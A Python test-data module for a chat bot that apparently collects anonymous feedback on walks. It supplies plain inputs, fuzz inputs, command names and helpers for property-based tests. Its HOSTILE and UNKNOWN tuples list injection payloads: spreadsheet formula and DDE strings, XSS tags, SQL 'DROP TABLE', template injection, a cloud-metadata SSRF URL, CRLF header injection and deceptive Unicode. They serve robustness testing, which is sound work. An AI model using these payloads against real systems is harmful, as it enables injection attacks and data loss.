"""What people write on a walk: the fitting, the hostile, what looks like a command or a receipt."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterable
from typing import Any, Final

from hypothesis import strategies as st

from bot.anonymity import read_receipt
from bot.commands import COMMANDS

PLAIN: Final = (
    "Mehr Bänke", "More trees.\nAnd a fountain", "3", "yes", "Red", "A\nB", "A\nB\nC\nD", "park",
    "01.06.2027 08:00", "02.03.2027 10:30", "01.01.2020 08:00", "28.03.2027 02:30", "my-code", "p",
    "Rathaus, Saal 1", "Ich heiße Anna Müller, 0171 2345678",
)  # fmt: skip
HOSTILE: Final = (
    '=HYPERLINK("http://x/?"&A1)', "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\tx", "＝1+1",
    'a;"b"\n=1', "<b>open", "<<b>", "&lt;", '<a href="tg://user?id=1">', "<script>alert(1)</script>",
    '"><img onerror=x>', "_*[](", "{{7*7}}", "%s", "{0.__class__}", "'; DROP TABLE event",
    "a\x00b", "\ud800", "🙂" * 2048, "x" * 4096, "👩‍👩‍👧‍👦" * 300, "\u202egnp.exe", "\u200b", "\u3164",
    "/ѕtart", "e" + "\u0301" * 1000, "Café", "Cafe\u0301", "ıİ", "http://169.254.169.254/",
    "../../x\r\nSet-Cookie: a", "1e999", "9" * 400, "ZZZZ-ZZZZ-ZZZZ-ZZZZ", "*Your receipt code:*",
    "01.01.0001 00:00", "31.12.9999 23:59", "O\n" * 120, "\u200b\nA\n\u3164", "home:", ":::::",
)  # fmt: skip
FITTING: Final = (
    "Some words", "A\nB", "7", "01.06.2027 08:00", "01.09.2028 08:00", "village-9", "imprint",
)  # fmt: skip
COMMAND_NAMES: Final = sorted(
    {name for command in COMMANDS for name in (command.name, command.german)}
    | {"letters", "resume"}
)
UNKNOWN: Final = (
    "/nothing", "/START@dialogbote_test_bot", "/ѕtart", "/", "//", "/start@", "/help <b>", "/…",
    "/receipt", "/receipt ZZZZ", "/receipt \ud800", "/start \ud800", "/start r_\ud800", "/start d_x",
    "/start " + "x" * 64, "/start %s", "/start '; DROP TABLE event", "/start e-\x00", "/start -",
)  # fmt: skip

SEEDS: Final = st.integers(0, 2**32 - 1)
"""What is drawn from a seed is not drawn from hypothesis, which gives fifty steps only so much."""


def gibberish(seed: int) -> str:
    """Letters of any script, marks, controls and symbols."""
    chance = random.Random(seed)
    signs = (chr(chance.choice((chance.randrange(1, 0x250), chance.randrange(0x250, 0xD800),
                                chance.randrange(0xE000, 0x110000)))) for _ in range(30))  # fmt: skip
    return "".join(itertools.islice(signs, chance.randint(1, 30)))


def receipts_in(messages: Iterable[Any]) -> set[str]:
    """The receipt codes that stand in these messages."""
    words = (word for message in messages for word in message.text.split())
    return {word for word in words if len(word) == 19 and read_receipt(word) == word}
